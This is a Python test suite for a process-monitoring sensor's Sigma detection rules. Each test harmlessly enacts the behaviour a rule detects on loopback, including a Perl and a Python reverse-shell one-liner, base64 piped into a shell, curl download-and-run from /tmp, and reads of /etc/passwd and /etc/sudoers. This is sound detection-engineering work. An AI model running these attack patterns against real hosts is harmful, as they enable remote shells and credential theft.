"""Sigma detections in the sensor (issue 24, contract section 10).

For SigmaHQ rules shipped in rules/sigma, each test performs on this host,
harmlessly, what the rule describes (a base64 script piped into a shell,
history wiped, a download from a loopback HTTP server run from /tmp, a
reverse shell against a closed loopback port, userdel refused, ...) and
waits for the Detection with that rule's id in both formats: two procmon
instances, Bombini and LimaCharlie, watch the same behaviour. Each
Detection must be written right after the ProcessExec that matched (only
other Detections of the same exec between them), carry that event's
event_id and time, and name the rule as the rule file says.

Then what must not fire (procmon's own build, dpkg, git), broken rules,
hostile bytes, SIGHUP reloads, the metrics and the configuration errors.
"""

import base64
import http.server
import os
import shutil
import signal
import socket
import subprocess
import tempfile
import threading
import urllib.request
from pathlib import Path

import pytest
import yaml

from helpers import EVENT_TIMEOUT, REPO, Procmon, replace_invalid_utf8, run_procmon_to_exit, wait_until
from test_metrics import free_port, get, parse, promtool_check, value

RULES = REPO / "rules" / "sigma"
PYTHON = "/usr/bin/python3"  # the real interpreter, not a pyenv shim script
LEVELS = ("informational", "low", "medium", "high", "critical")


# --------------------------------------------------------------------------
# The rules as their files say


_rules = None


def rules():
    """id -> the rule's YAML (and its file), for every shipped rule."""
    global _rules
    if _rules is None:
        _rules = {}
        for f in sorted(RULES.rglob("*.yml")):
            doc = yaml.safe_load(f.read_text())
            _rules[doc["id"]] = dict(doc, file=str(f))
    return _rules


def write_config(path, rule_paths, extra="", enabled="true"):
    lines = ["detections:"]
    if enabled is not None:
        lines.append(f"  enabled: {enabled}")
    lines.append("  rules: [" + ", ".join(f'"{p}"' for p in rule_paths) + "]")
    lines.append("  min_level: informational")
    path.write_text("\n".join(lines) + "\n" + extra)
    path.chmod(0o600)
    return path


def root_dir(prefix, base="/tmp"):
    """A fresh root-owned 0755 directory (rules must not be writable by others)."""
    d = Path(tempfile.mkdtemp(prefix=prefix, dir=base))
    d.chmod(0o755)
    return d


# --------------------------------------------------------------------------
# Two procmons, one per format, on every shipped rule


class Pair:
    def __init__(self, cfg):
        self.native = Procmon("--config", cfg)
        self.lc = Procmon("--config", cfg, "--format", "limacharlie")
        self.native.wait_ready()
        self.lc.wait_ready()

    def stop(self):
        for p in (self.native, self.lc):
            assert p.stop() == 0, p.stderr_tail()
            assert not p.bad_lines, p.bad_lines[:3]


@pytest.fixture(scope="module")
def pair(tmp_path_factory):
    cfg = write_config(tmp_path_factory.mktemp("sigma") / "procmon.yaml", [RULES])
    p = Pair(cfg)
    yield p
    p.stop()


@pytest.fixture
def scratch():
    """A scratch directory under /tmp (several rules look for /tmp/)."""
    d = root_dir("procmon-sigma-")
    yield d
    shutil.rmtree(d, ignore_errors=True)


# Process ancestry as the events tell it, so a test sees only what its own
# processes did (other procmon users share the host).

def native_pid(ev):
    p = ev.get("process")
    return (p["pid"], p["ppid"]) if isinstance(p, dict) else None


def lc_pid(ev):
    e = ev.get("event", {})
    if ev.get("routing", {}).get("event_type") in ("NEW_PROCESS", "PROCESS_CLONE"):
        return e.get("PROCESS_ID"), e.get("PARENT_PROCESS_ID")
    return None


def descends(procmon, pid, root, pid_of):
    parents = {}
    for ev in procmon.events:
        pp = pid_of(ev)
        if pp:
            parents[pp[0]] = pp[1]
    for _ in range(64):
        if pid == root:
            return True
        if pid not in parents or parents[pid] == pid:
            return False
        pid = parents[pid]
    return False


def check_native(procmon, det, rule):
    """The Detection names the rule as its file does and follows its exec."""
    r = det["rule"]
    assert (r["id"], r["title"], r["level"], r["status"], r["tags"], r["file"]) == (
        rule["id"], rule["title"], rule["level"], rule.get("status", ""),
        rule.get("tags", []), rule["file"])
    i = procmon.index_of(det)
    j = i - 1
    while procmon.events[j]["type"] == "Detection":
        j -= 1
    exec_ev = procmon.events[j]
    assert exec_ev["type"] == "ProcessExec"
    assert all(e["matched_event_id"] == exec_ev["event_id"] for e in procmon.events[j + 1:i + 1])
    assert det["matched_event_id"] == exec_ev["event_id"]
    assert (det["process"], det["parent"], det["timestamp"]) == (
        exec_ev["process"], exec_ev["parent"], exec_ev["timestamp"])
    assert det["seq"] > exec_ev["seq"] and det["host"] == exec_ev["host"]


def check_lc(procmon, det, rule):
    assert det["routing"]["event_type"] == "DETECTION"
    assert (det["cat"], det["source_rule"]) == (rule["title"], "sigma." + rule["id"])
    assert det["detect_mtd"] == {
        "level": rule["level"], "tags": rule.get("tags", []),
        "description": rule.get("description", ""),
        "references": rule.get("references", []),
        "author": rule.get("author", "")}
    assert det["detect_id"] == det["routing"]["event_id"]
    i = procmon.index_of(det)
    j = i - 1
    while procmon.events[j]["routing"]["event_type"] == "DETECTION":
        j -= 1
    exec_ev = procmon.events[j]
    assert exec_ev["routing"]["event_type"] == "NEW_PROCESS"
    assert det["detect"] == exec_ev | {"routing": det["detect"]["routing"]}
    assert det["detect"]["routing"] == {k: v for k, v in exec_ev["routing"].items() if k != "seq"}
    assert det["routing"]["event_time"] == exec_ev["routing"]["event_time"]
    assert det["routing"]["this"] == exec_ev["routing"]["this"]


def wait_detections(pair, rule_id, root, since):
    """The Detection of rule_id for a process under root, in both formats."""
    rule = rules()[rule_id]
    nat = pair.native.wait_for(
        lambda e: e["type"] == "Detection" and e["rule"]["id"] == rule_id
        and descends(pair.native, e["process"]["pid"], root, native_pid),
        since=since[0], what=f"Detection {rule_id} ({rule['title']})")
    check_native(pair.native, nat, rule)
    lc = pair.lc.wait_for(
        lambda e: e["routing"]["event_type"] == "DETECTION" and e["source_rule"] == "sigma." + rule_id
        and descends(pair.lc, e["detect"]["event"]["PROCESS_ID"], root, lc_pid),
        since=since[1], what=f"DETECTION sigma.{rule_id}")
    check_lc(pair.lc, lc, rule)
    return nat, lc


# --------------------------------------------------------------------------
# The behaviours


class LoopbackHTTP:
    """A file server on 127.0.0.1 (in this process: no exec of its own)."""

    def __init__(self, directory):
        handler = lambda *a, **k: http.server.SimpleHTTPRequestHandler(  # noqa: E731
            *a, directory=str(directory), **k)
        handler.log_message = lambda *a: None
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def closed_port():
    """A loopback port nobody listens on (bound then released)."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def run(argv, **kw):
    kw.setdefault("stdin", subprocess.DEVNULL)
    p = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **kw)
    p.wait(timeout=60)
    return p.pid


SHEBANG_B64 = base64.b64encode(b"#!/bin/sh\necho harmless\n").decode()


def base64_into_shell(s):
    return run(["sh", "-c", f"echo {SHEBANG_B64} | base64 -d | sh"])


def base64_decode(s):
    return run(["base64", "-d"], stdin=open(os.devnull))


def chattr_remove_immutable(s):
    (s / "locked").write_text("x")
    return run(["chattr", "-i", str(s / "locked")])


def history(s):
    (s / ".bash_history").write_text("ls\n")
    return s / ".bash_history"


def wipe_history(s):
    return run(["rm", "-f", str(history(s))])


def read_history(s):
    return run(["cat", str(history(s))])


def download_and_run(s):
    (s / "www").mkdir()
    (s / "www" / "payload").write_text("#!/bin/sh\necho harmless\n")
    srv = LoopbackHTTP(s / "www")
    try:
        return run(["sh", "-c", f"/usr/bin/curl -sf -o {s}/payload "
                    f"http://127.0.0.1:{srv.port}/payload && sh {s}/payload"])
    finally:
        srv.close()


def wget_to_tmp(s):
    (s / "www").mkdir()
    (s / "www" / "payload").write_text("echo harmless\n")
    srv = LoopbackHTTP(s / "www")
    try:
        return run(["wget", "-q", "-O", f"{s}/payload", f"http://127.0.0.1:{srv.port}/payload"])
    finally:
        srv.close()


def perl_reverse_shell(s):
    code = ('use Socket;$i="127.0.0.1";$p=%d;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
            'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/true");};'
            % closed_port())
    return run(["perl", "-e", code])


def python_reverse_shell(s):
    code = ("import pty,socket;s=socket.socket();"
            f"r=s.connect_ex(('127.0.0.1',{closed_port()}));r or pty.spawn('/bin/true')")
    return run([PYTHON, "-c", code])


def awk_shell(s):
    return run(["awk", 'BEGIN {system("/bin/sh -c true")}'])


def find_shell(s):
    return run(["find", ".", "-maxdepth", "0", "-exec", "/bin/sh", "-c", "true", ";"], cwd=s)


def env_shell(s):
    return run(["env", "/bin/sh", "-c", "true"])


def nice_shell(s):
    return run(["nice", "/bin/sh"])


def flock_shell(s):
    return run(["flock", "-u", str(s / "lock"), "/bin/sh", "-c", "true"])


def exec_from_dev_shm(s):
    d = root_dir("procmon-sigma-", "/dev/shm")
    try:
        shutil.copy("/bin/true", d / "true")
        return run([str(d / "true")])
    finally:
        shutil.rmtree(d)


def copy_passwd_to_tmp(s):
    return run(["cp", "/etc/passwd", str(s / "passwd")])


def userdel_refused(s):
    return run(["userdel", f"procmon-nouser-{os.getpid()}"])


def groupdel_refused(s):
    return run(["groupdel", f"procmon-nogroup-{os.getpid()}"])


def clear_syslog_never_run(s):
    # the redirection belongs to ':', which `true ||` never runs
    return run(["sh", "-c", "true || : > /var/log/syslog"])


def shell_from_tmp_parent(s):
    shutil.copy("/usr/bin/dash", s / "dash")
    return run([str(s / "dash"), "-c", "/bin/sh -c true; true"])


def remove_missing_log(s):
    return run(["rm", "-f", f"/var/log/procmon-test-absent-{os.getpid()}"])


def python_http_server(s):
    p = subprocess.Popen([PYTHON, "-m", "http.server", "--bind", "127.0.0.1",
                          "--directory", str(s), "0"],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    python_http_server.running.append(p)
    return p.pid


python_http_server.running = []


def mkfifo_in_tmp(s):
    return run(["mkfifo", str(s / "fifo")])


def touch_service_time(s):
    return run(["touch", "-t", "202001010000", str(s / "backdoor.service")])


def read_sudoers(s):
    return run(["cat", "/etc/sudoers"])


def dd_zero(s):
    return run(["dd", "if=/dev/zero", f"of={s}/zero", "bs=1", "count=1"])


def dockerenv_recon(s):
    return run(["ls", "/.dockerenv"])


def interactive_bash(s):
    # HOME: no ~/.bashrc and no history written anywhere but the scratch dir
    env = dict(os.environ, HOME=str(s), HISTFILE=str(s / "hist"))
    p = subprocess.Popen(["bash", "-i"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL, env=env, cwd=s)
    p.communicate(b"whoami\nexit\n", timeout=60)
    return p.pid


SCX_DIR = Path("/var/opt/microsoft/scx/tmp")


def omigod_scx(s):
    """User root, LogonId 0 (the loginuid, set in the child) and the
    working directory: the fields beyond Image and CommandLine."""
    made = [d for d in (SCX_DIR, *SCX_DIR.parents) if not d.exists()]
    SCX_DIR.mkdir(parents=True, exist_ok=True)

    def login_as_0():
        with open("/proc/self/loginuid", "w") as f:
            f.write("0")
    try:
        return run(["sh", "-c", "echo /etc/opt/microsoft/scx/conf/tmpdir/scx"], cwd=SCX_DIR,
                   preexec_fn=login_as_0)
    finally:
        for d in sorted(made, key=lambda d: len(str(d)), reverse=True):
            d.rmdir()


# (rule id, behaviour): each SigmaHQ rule with what it describes.
CASES = [
    ("e2072cab-8c9a-459b-b63c-40ae79e27031", base64_decode),
    ("ba592c6d-6888-43c3-b8c6-689b8fe47337", base64_into_shell),
    ("fe2f9663-41cb-47e2-b954-8a228f3b9dff", base64_into_shell),
    ("880973f3-9708-491c-a77b-2a35a1921158", base64_into_shell),
    ("34979410-e4b5-4e5d-8cfb-389fdff05c12", chattr_remove_immutable),
    ("1182f3b3-e716-4efa-99ab-d2685d04360f", wipe_history),
    ("d7821ff1-4527-4e33-9f84-d0d57fa2fb66", read_history),
    ("a2d9e2f3-0f43-4c7a-bcd9-9acfc0d723aa", download_and_run),
    ("cf610c15-ed71-46e1-bdf8-2bd1a99de6c4", wget_to_tmp),
    ("259df6bc-003f-4306-9f54-4ff1a08fa38e", perl_reverse_shell),
    ("32e62bc7-3de0-4bb1-90af-532978fe42c0", python_reverse_shell),
    ("c4042d54-110d-45dd-a0e1-05c47822c937", python_reverse_shell),
    ("8c1a5675-cb85-452f-a298-b01b22a51856", awk_shell),
    ("6adfbf8f-52be-4444-9bac-81b539624146", find_shell),
    ("bed978f8-7f3a-432b-82c5-9286a9b3031a", env_shell),
    ("093d68c7-762a-42f4-9f46-95e79142571a", nice_shell),
    ("4b09c71e-4269-4111-9cdd-107d8867f0cc", flock_shell),
    ("5cd16c8f-44a6-4654-81e7-a84d6db507d4", exec_from_dev_shm),
    ("fa4aaed5-4fe0-498d-bbc0-08e3346387ba", copy_passwd_to_tmp),
    ("08f26069-6f80-474b-8d1f-d971c6fedea0", userdel_refused),
    ("8a46f16c-8c4c-82d1-b121-0fdd3ba70a84", groupdel_refused),
    ("3fcc9b35-39e4-44c0-a2ad-9e82b6902b31", clear_syslog_never_run),
    ("2fade0b6-7423-4835-9d4f-335b39b83867", shell_from_tmp_parent),
    ("80915f59-9b56-4616-9de0-fd0dea6c12fe", remove_missing_log),
    ("3f0f5957-04f8-4792-ad89-192b0303bde6", python_http_server),
    ("999c3b12-0a8c-40b6-8e13-dd7d62b75c7a", mkfifo_in_tmp),
    ("31545105-3444-4584-bebf-c466353230d2", touch_service_time),
    ("0f79c4d2-4e1f-4683-9c36-b5469a665e06", read_sudoers),
    ("2953194b-e33c-4859-b9e8-05948c167447", dd_zero),
    ("11701de9-d5a5-44aa-8238-84252f131895", dockerenv_recon),
    ("ea3ecad2-db86-4a89-ad0b-132a10d2db55", interactive_bash),
    ("6eea1bf6-f8d2-488a-a742-e6ef6c1b67db", omigod_scx),
]


@pytest.mark.parametrize("rule_id,behaviour", CASES,
                         ids=[f"{b.__name__}-{r[:8]}" for r, b in CASES])
def test_rule_fires_on_its_behaviour(pair, scratch, rule_id, behaviour):
    assert rule_id in rules(), f"{rule_id} is not in {RULES}"
    since = (pair.native.mark(), pair.lc.mark())
    try:
        root = behaviour(scratch)
        wait_detections(pair, rule_id, root, since)
    finally:
        for p in python_http_server.running:
            p.kill()
            p.wait()
        python_http_server.running.clear()


def test_fields_beyond_the_command_line(pair, scratch):
    """The omigod rule needs User, LogonId and CurrentDirectory: they are
    what the exec had, in the process objects too (cwd, CURRENT_DIRECTORY)."""
    since = (pair.native.mark(), pair.lc.mark())
    root = omigod_scx(scratch)
    nat, lc = wait_detections(pair, "6eea1bf6-f8d2-488a-a742-e6ef6c1b67db", root, since)
    assert (nat["process"]["cwd"], nat["process"]["auid"], nat["process"]["uid"]) == (
        str(SCX_DIR), 0, 0)
    ev = lc["detect"]["event"]
    assert (ev["CURRENT_DIRECTORY"], ev["USER_NAME"]) == (str(SCX_DIR), "root")


# --------------------------------------------------------------------------
# The working directory itself (cwd, CURRENT_DIRECTORY)


def test_cwd_is_the_exec_working_directory(pair, scratch):
    """Hostile names, a removed directory: the path as d_path prints it."""
    odd = scratch / "sp ace" / "new\nline" / "bad\xff".encode("utf-8", "surrogateescape").decode(
        "utf-8", "surrogateescape")
    odd.mkdir(parents=True)
    gone = scratch / "gone"
    gone.mkdir()
    since = (pair.native.mark(), pair.lc.mark())
    pid1 = run(["/bin/true", "cwd-odd"], cwd=odd)
    # a shell whose directory is removed before it execs true
    pid2 = run(["sh", "-c", f"cd {gone} && rmdir {gone} && exec /bin/true cwd-gone"])
    shown = replace_invalid_utf8(os.fsencode(odd))
    for pid, want in ((pid1, shown), (pid2, f"{gone} (deleted)")):
        ev = pair.native.wait_for(lambda e: e["type"] == "ProcessExec"
                                  and e["process"]["pid"] == pid
                                  and e["process"]["filename"] == "true",
                                  since=since[0], what=f"ProcessExec {pid}")
        assert ev["process"]["cwd"] == want
        lc = pair.lc.wait_for(lambda e: e["routing"]["event_type"] == "NEW_PROCESS"
                              and e["event"]["PROCESS_ID"] == pid
                              and e["event"]["FILE_PATH"] == "/usr/bin/true",
                              since=since[1], what=f"NEW_PROCESS {pid}")
        assert lc["event"]["CURRENT_DIRECTORY"] == want


# --------------------------------------------------------------------------
# What must not fire: procmon's own build, a package query, git


def test_everyday_work_raises_nothing_high(pair, scratch):
    """make -j2 of procmon's sources (a scratch copy), dpkg -l, git: no
    Detection of level high or critical, except the ones docs/detections.md
    lists and explains (none so far)."""
    explained = set()  # rule ids docs/detections.md explains
    since = (pair.native.mark(), pair.lc.mark())
    src = scratch / "procmon"
    subprocess.run(f"git -C {REPO} archive HEAD | tar -x -C {scratch} --one-top-level=procmon",
                   shell=True, check=True)
    roots = []
    for argv in (["git", "init", "-q"], ["git", "add", "-A"],
                 ["git", "-c", "user.name=t", "-c", "user.email=t@localhost", "commit", "-qm",
                  "scratch"],
                 ["git", "log", "--oneline", "-3"], ["git", "status", "--short"],
                 ["git", "diff", "HEAD"], ["git", "grep", "-q", "sigma"],
                 ["make", "-j2"], ["dpkg", "-l"], ["dpkg", "-S", "/bin/ls"]):
        p = subprocess.Popen(argv, cwd=src, stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        p.wait(timeout=900)
        roots.append(p.pid)
    assert (src / "build" / "procmon").exists(), "the scratch build did not build"
    # everything written so far has been seen once procmon shows our last exit
    pair.native.wait_for(lambda e: e["type"] == "ProcessExit" and e["process"]["pid"] == roots[-1],
                         since=since[0], what="the last command's exit")
    fired = [e for e in pair.native.find(lambda e: e["type"] == "Detection", since[0])
             if any(descends(pair.native, e["process"]["pid"], r, native_pid) for r in roots)]
    for e in fired:  # shown with -s or on failure: docs/detections.md lists them
        print(e["rule"]["level"], e["rule"]["id"], e["rule"]["title"], "|",
              e["process"]["binary_path"], e["process"]["args"][:120])
    high = [(e["rule"]["id"], e["rule"]["title"], e["process"]["binary_path"],
             e["process"]["args"][:200])
            for e in fired if e["rule"]["level"] in ("high", "critical")
            and e["rule"]["id"] not in explained]
    assert not high, high


# --------------------------------------------------------------------------
# Hostile content, broken rules, reloads, metrics, configuration


MARKER_RULE = """title: procmon test rule {name}
id: {id}
status: test
description: a marker for procmon's tests
author: procmon tests
references: ['https://example.invalid/{name}']
tags: [attack.execution, test.{name}]
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contains: 'procmon-marker-{name}'
    condition: selection
level: high
"""

BROKEN = {
    "not_yaml.yml": "title: [unclosed\n  : :\n",
    "not_sigma.yml": "- just\n- a list\n",
    "bad_modifier.yml": MARKER_RULE.replace("CommandLine|contains", "CommandLine|sortof"),
    "bad_regex.yml": MARKER_RULE.replace("CommandLine|contains: 'procmon-marker-{name}'",
                                         "CommandLine|re: '(unclosed'"),
    "no_selection.yml": MARKER_RULE.replace("condition: selection", "condition: nothere"),
}


def marker_rule(d, name, rid, fname=None):
    f = d / (fname or f"{name}.yml")
    f.write_text(MARKER_RULE.format(name=name, id=rid))
    f.chmod(0o644)
    return f


def broken_rules(d):
    for fname, text in BROKEN.items():
        (d / fname).write_text(text.format(name="broken", id="00000000-0000-4000-8000-0000000000bb"))
        (d / fname).chmod(0o644)
    marker_rule(d, "writable", "00000000-0000-4000-8000-0000000000cc").chmod(0o666)


def test_broken_rules_never_stop_the_sensor(tmp_path):
    """Each bad file reported with file:line and skipped; the good rule works."""
    d = root_dir("procmon-rules-")
    try:
        broken_rules(d)
        marker_rule(d, "good", "00000000-0000-4000-8000-0000000000aa")
        cfg = write_config(tmp_path / "c.yaml", [d])
        pm = Procmon("--config", cfg).wait_ready()
        try:
            since = pm.mark()
            pid = run(["/bin/echo", "procmon-marker-good"])
            det = pm.wait_for(lambda e: e["type"] == "Detection" and e["process"]["pid"] == pid,
                              since=since, what="the good rule's Detection")
            assert det["rule"]["id"] == "00000000-0000-4000-8000-0000000000aa"
            assert det["rule"]["tags"] == ["attack.execution", "test.good"]
            # the writable one never loads: its marker fires nothing
            pid2 = run(["/bin/echo", "procmon-marker-writable"])
            pm.wait_for(lambda e: e["type"] == "ProcessExit" and e["process"]["pid"] == pid2,
                        since=since, what="the exit")
            assert not pm.find(lambda e: e["type"] == "Detection"
                               and e["process"]["pid"] == pid2, since)
        finally:
            assert pm.stop() == 0
        err = "\n".join(pm.stderr_lines)
        for fname in BROKEN:
            assert any(f"{d / fname}:" in l for l in pm.stderr_lines), (fname, err)
        assert any(str(d / "writable.yml") in l for l in pm.stderr_lines), err
        assert "1 rules loaded" in err
    finally:
        shutil.rmtree(d)


def test_only_broken_rules(tmp_path):
    """enabled absent: the sensor runs without detections; enabled: true:
    a configuration that cannot detect is refused (exit 2)."""
    d = root_dir("procmon-rules-")
    try:
        broken_rules(d)
        pm = Procmon("--config", write_config(tmp_path / "auto.yaml", [d], enabled=None))
        pm.wait_ready()
        since = pm.mark()
        pid = run(["/bin/echo", "procmon-marker-broken"])
        pm.wait_for(lambda e: e["type"] == "ProcessExec" and e["process"]["pid"] == pid,
                    since=since)
        assert pm.stop() == 0
        assert any("detections: off" in l for l in pm.stderr_lines), pm.stderr_tail()
        rc, err = run_procmon_to_exit(["--config", write_config(tmp_path / "on.yaml", [d])])
        assert rc == 2
        assert "no rule loaded" in err and str(tmp_path / "on.yaml") in err, err
    finally:
        shutil.rmtree(d)


def test_hostile_command_line_stays_valid_json(tmp_path):
    """Invalid UTF-8 and control characters in a matching command line:
    every line valid JSON (Procmon parses strictly), the bytes replaced."""
    d = root_dir("procmon-rules-")
    try:
        marker_rule(d, "hostile", "00000000-0000-4000-8000-0000000000dd")
        cfg = write_config(tmp_path / "c.yaml", [d])
        arg = b"procmon-marker-hostile\xff\xfe\x01\x1b[31m\"\\\n\t\xc3"
        for fmt in ("bombini", "limacharlie"):
            pm = Procmon("--config", cfg, "--format", fmt).wait_ready()
            try:
                since = pm.mark()
                pid = run([b"/bin/echo", arg])
                if fmt == "bombini":
                    det = pm.wait_for(lambda e: e["type"] == "Detection"
                                      and e["process"]["pid"] == pid, since=since)
                    assert det["process"]["args"] == replace_invalid_utf8(arg)
                else:
                    det = pm.wait_for(lambda e: e["routing"]["event_type"] == "DETECTION"
                                      and e["detect"]["event"]["PROCESS_ID"] == pid, since=since)
                    assert det["detect"]["event"]["COMMAND_LINE"] == \
                        "/bin/echo " + replace_invalid_utf8(arg)
            finally:
                assert pm.stop() == 0
            assert not pm.bad_lines, pm.bad_lines[:2]
    finally:
        shutil.rmtree(d)


def test_sighup_reloads_the_rules(tmp_path):
    """A new rule set takes over at SIGHUP; one that loads nothing leaves
    the running rules in force."""
    d = root_dir("procmon-rules-")
    try:
        f = marker_rule(d, "one", "00000000-0000-4000-8000-000000000001", "rule.yml")
        pm = Procmon("--config", write_config(tmp_path / "c.yaml", [d])).wait_ready()
        try:
            def fires(name):
                since = pm.mark()
                pid = run(["/bin/echo", f"procmon-marker-{name}"])
                pm.wait_for(lambda e: e["type"] == "ProcessExit" and e["process"]["pid"] == pid,
                            since=since, what="the exit")
                return [e["rule"]["id"][-1] for e in pm.find(
                    lambda e: e["type"] == "Detection" and e["process"]["pid"] == pid, since)]

            assert (fires("one"), fires("two")) == (["1"], [])
            f.write_text(MARKER_RULE.format(name="two", id="00000000-0000-4000-8000-000000000002"))
            pm.proc.send_signal(signal.SIGHUP)
            pm.wait_stderr(lambda l: "detections (SIGHUP): 1 rules loaded" in l)
            pm.wait_stderr(lambda l: "configuration reloaded" in l)
            assert (fires("one"), fires("two")) == ([], ["2"])
            f.write_text(BROKEN["bad_regex.yml"].format(name="x", id="x"))
            pm.proc.send_signal(signal.SIGHUP)
            pm.wait_stderr(lambda l: "the 1 rules in force stay" in l)
            assert fires("two") == ["2"]
        finally:
            assert pm.stop() == 0
    finally:
        shutil.rmtree(d)


def test_metrics_count_detections_by_level(tmp_path):
    d = root_dir("procmon-rules-")
    try:
        marker_rule(d, "metric", "00000000-0000-4000-8000-0000000000ee")
        port = free_port()
        cfg = write_config(tmp_path / "c.yaml", [d], f'metrics: {{ listen: "127.0.0.1:{port}" }}\n')
        pm = Procmon("--config", cfg).wait_ready()
        try:
            since = pm.mark()
            for _ in range(3):
                run(["/bin/echo", "procmon-marker-metric"])
            pm.wait_for(lambda e: len(pm.find(lambda x: x["type"] == "Detection", since)) >= 3,
                        since=since, what="three Detections")
            def scraped():
                page = get(port, "/metrics")[1]
                samples = parse(page)
                high = value(samples, "procmon_detections_total", level="high")
                return (page, samples) if high >= 3 else None

            page, samples = wait_until(scraped, "procmon_detections_total high >= 3")
            promtool_check(page)
            assert value(samples, "procmon_detections_total", level="high") == 3
            assert value(samples, "procmon_detections_total", level="low") == 0
            assert value(samples, "procmon_sigma_rules_loaded") == 1
            assert value(samples, "procmon_events_written_total", type="Detection") == 3
        finally:
            assert pm.stop() == 0
        assert any("at exit: detections: 3 (" in l and "high=3" in l for l in pm.stderr_lines), \
            pm.stderr_tail()
    finally:
        shutil.rmtree(d)


@pytest.mark.parametrize("block,want", [
    ("detections:\n  enabled: yes please\n", ":2: key 'detections.enabled'"),
    ("detections:\n  rules: [rules/sigma]\n", ":2: key 'detections.rules[0]'"),
    ("detections:\n  min_level: severe\n", ":2: key 'detections.min_level'"),
    ("detections:\n  levels: high\n", ":2: key 'detections.levels'"),
])
def test_bad_detections_block_exits_2(tmp_path, block, want):
    cfg = tmp_path / "bad.yaml"
    cfg.write_text(block)
    cfg.chmod(0o600)
    rc, err = run_procmon_to_exit(["--config", cfg])
    assert rc == 2
    assert f"{cfg}{want}" in err, err
